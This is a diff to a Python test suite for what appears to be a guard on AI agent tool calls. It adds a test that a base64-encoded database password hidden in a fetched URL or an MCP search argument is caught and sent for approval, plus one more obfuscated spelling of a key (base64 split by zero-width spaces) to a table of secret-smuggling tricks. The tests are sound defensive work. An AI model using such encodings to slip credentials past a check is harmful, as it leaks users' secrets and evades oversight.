@@ -73,6 +73,7 @@ SMUGGLED = {  # verify7's L1 gaps, and their neighbours: a key hidden from a pla
     "the environment's value, base64 wrapped at 5": wrapped(base64.b64encode(DB_PASSWORD.encode()).decode(),
                                                             5),
     "U+200B between its letters": "\u200b".join(KEY),
+    "base64 with U+200B between its letters": "\u200b".join(B64_KEY),
     "soft hyphens between its letters": "\u00ad".join(KEY),
     "word joiners in the environment's value": "\u2060".join(DB_PASSWORD),
     "ZWJ and bidi marks": "\u200d\u200e".join(KEY),
@@ -171,6 +172,23 @@ def test_a_cap_hit_or_a_trick_does_not_pass_arguments_as_clean(tmp_path: Path, a
 def test_ordinary_large_arguments_under_the_caps_still_run(tmp_path: Path) -> None:
     body = " ".join(f"word{i} AnIdentifierLongEnough{i}" for i in range(1_500))
     assert policy(tmp_path, allow=("search__query",)).decide(McpTool(), {"q": body}).action == "allow"
+
+
+@pytest.mark.parametrize("where", ["url", "mcp"])
+def test_base64_holding_a_plus_is_read_with_it(
+    tmp_path: Path, fetch: Tool, where: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Percent-decoding made base64's "+" a space, and the key's base64 fell in two
+    halves neither of which decoded to it."""
+    password = "Tr0ub4dor>>>x9horse"
+    encoded = base64.b64encode(password.encode()).decode()
+    assert "+" in encoded
+    monkeypatch.setenv("APP_DB_PASSWORD", password)
+    if where == "url":
+        verdict = policy(tmp_path, "auto", ALLOW).decide(fetch, {"url": f"https://a.github.io/?d={encoded}"})
+    else:
+        verdict = policy(tmp_path, allow=("search__query",)).decide(McpTool(), {"q": f"data: {encoded} end"})
+    assert verdict.action == "ask" and "holding a secret" in verdict.reason, verdict
 
 
 def test_ordinary_text_in_many_spellings_still_runs(tmp_path: Path) -> None:
